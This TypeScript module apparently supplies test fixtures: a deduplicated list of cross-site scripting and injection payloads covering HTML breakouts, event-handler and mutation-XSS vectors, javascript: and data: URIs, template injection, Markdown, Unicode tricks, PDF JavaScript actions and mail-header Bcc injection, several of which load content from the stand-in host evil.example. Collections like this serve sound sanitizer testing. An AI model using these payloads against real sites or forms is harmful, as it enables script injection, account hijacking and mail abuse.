/*
 * What people type who want a script to run: for texts, attributes, addresses, styles, Markdown, templates, mails and PDFs. Each
 * would call alert, or fetch from evil.example.
 */

const runs = "alert(1)"
const encodedScript = Buffer.from(`<script>${runs}</script>`).toString("base64")

/** Ways out of where a text may stand, each with ways to run. */
const breakouts = [
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</script>",
  "-->",
  "</style>",
  "</select>",
  "]]>",
  "</noscript>",
]
const bodies = [
  `<script>${runs}</script>`,
  `<img src=x onerror=${runs}>`,
  `<svg onload=${runs}>`,
  `<details open ontoggle=${runs}>`,
  `<input autofocus onfocus=${runs}>`,
]

const markup = [
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${runs}</script>`,
  `<!--<script>${runs}</script>`,
  `<iframe src="javascript:${runs}">`,
  `<iframe srcdoc="<script>${runs}</script>">`,
  `<object data="data:text/html;base64,${encodedScript}">`,
  `<embed src="javascript:${runs}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${runs}">`,
  `<form action=//evil.example><button>a</button></form>`,
  `<button formaction="javascript:${runs}">a</button>`,
  `<a href="javascript:${runs}">a</a>`,
  `<a href="&#x6a;avascript:${runs}">a</a>`,
  `<img src=//evil.example/x.png>`,
  `<video poster=//evil.example/x.png>`,
  `<audio src onerror=${runs}>`,
  `<marquee onstart=${runs}>`,
  `<body onpageshow=${runs}>`,
  `<is-land onclick=${runs}>`,
  `<div style="background:url(//evil.example/x)">`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<svg><animate onbegin=${runs} attributeName=x>`,
  `<svg><use href="data:image/svg+xml;base64,${encodedScript}#x">`,
  `<svg><script>${runs}</script></svg>`,
  `<svg><a xlink:href="javascript:${runs}"><text y=9>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${runs}">`,
  `<math href="javascript:${runs}">a</math>`,
]

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${runs}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${runs}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`,
  `<xmp><p title="</xmp><svg/onload=${runs}>">`,
  `<listing>&lt;img src=1 onerror=${runs}&gt;</listing>`,
  `<template><script>${runs}</script></template>`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${runs}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${runs}&#60;/script&#62;`,
  `%3Cscript%3E${runs}%3C/script%3E`,
]

const codes = [
  `javascript:${runs}`,
  `JaVaScRiPt:${runs}`,
  `java\tscript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `vbscript:${runs}`,
  `//evil.example/x.js`,
  `";${runs}//`,
  `';${runs}//`,
  `\`;${runs}//`,
  `\\";${runs}//`,
  `"-${runs}-"`,
  `\\u003cscript\\u003e${runs}\\u003c/script\\u003e`,
  `\${${runs}}`,
  `{{constructor.constructor('${runs}')()}}`,
  `{{#with this}}${runs}{{/with}}`,
  `<%= ${runs} %>`,
  `#{${runs}}`,
  `[[${runs}]]`,
  `{"__proto__":{"onclick":"${runs}"}}`,
  `"}]}</script><script>${runs}</script>`,
  `" onmouseover="${runs}" autofocus onfocus="${runs}`,
  `' onmouseover='${runs}`,
  ` onfocus=${runs} autofocus tabindex=1 `,
  `x;background:url(//evil.example/x);`,
  `red;}*{background:url(//evil.example/x)}`,
  `expression(${runs})`,
]

const markdown = [
  `[a](javascript:${runs})`,
  `[a](JaVaScRiPt:${runs})`,
  `[a](<javascript:${runs}>)`,
  `[a](&#106;avascript:${runs})`,
  `[a](javascript&colon;${runs})`,
  `[a](data:text/html;base64,${encodedScript})`,
  `[a](vbscript:${runs})`,
  `[a](//evil.example "x" onmouseover="${runs}")`,
  `[a](https://evil.example/"onmouseover="${runs})`,
  `![a](javascript:${runs})`,
  `![a](x"onerror="${runs})`,
  `![a](//evil.example/x.png)`,
  `![a](https://evil.example/x.png)`,
  `![a](/\\evil.example/x.png)`,
  `<javascript:${runs}>`,
  `[a]: javascript:${runs}\n\n[a]`,
  `[<img src=x onerror=${runs}>](/a)`,
  `\`\`\`<script>\n${runs}\n\`\`\``,
  `| <svg onload=${runs}> |\n|-|\n| [a](javascript:${runs}) |`,
  `- [ ] <img src=x onerror=${runs}>`,
  `# <script>${runs}</script>`,
  `a@b.example" onclick="${runs}`,
  `www.evil.example"onmouseover="${runs}`,
]

const scripts = [
  `＜script＞${runs}＜/script＞`,
  `<\u017fcript>${runs}</\u017fcript>`,
  `<\u200bscript>${runs}</script>`,
  `<scr\u00adipt>${runs}</scr\u00adipt>`,
  `\u2028${runs}\u2029`,
  `\ufeff<script>${runs}</script>`,
  `\u202e>tpircs/<${runs}>tpircs<`,
  `<img src=x onerr\u0131r=${runs}>`,
]

const papers = [
  `) /JS (app.alert(1)) /S /JavaScript`,
  `) >> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`,
  `endstream endobj 1 0 obj << /S /URI /URI (javascript:${runs}) >> endobj`,
  `>> /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>`,
  `\\) /URI (javascript:${runs}`,
  `(((\\`,
]

const letters = [
  `a\r\nBcc: eve@evil.example`,
  `a\nBcc: eve@evil.example\n\n<script>${runs}</script>`,
  `a\u2028Bcc: eve@evil.example`,
  `a%0d%0aBcc:eve@evil.example`,
  `=?utf-8?q?=0d=0aBcc:eve@evil.example?=`,
  `"a" <eve@evil.example>, b`,
]

/** All of them, each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...breakouts.flatMap((breakout) => bodies.map((body) => breakout + body)),
    ...[...markup, ...mutations, ...codes, ...markdown, ...scripts, ...papers, ...letters],
  ]),
]

/** For fields that take web addresses alone. */
export const webAddressPayloads: readonly string[] = [
  `https://evil.example/"onmouseover="${runs}`,
  `https://evil.example/'><script>${runs}</script>`,
  `https://evil.example/#javascript:${runs}`,
  `https://javascript:${runs}@evil.example/`,
  `https://evil.example/%0d%0aX: y`,
  `https://evil.example/)/JS(${runs})`,
]
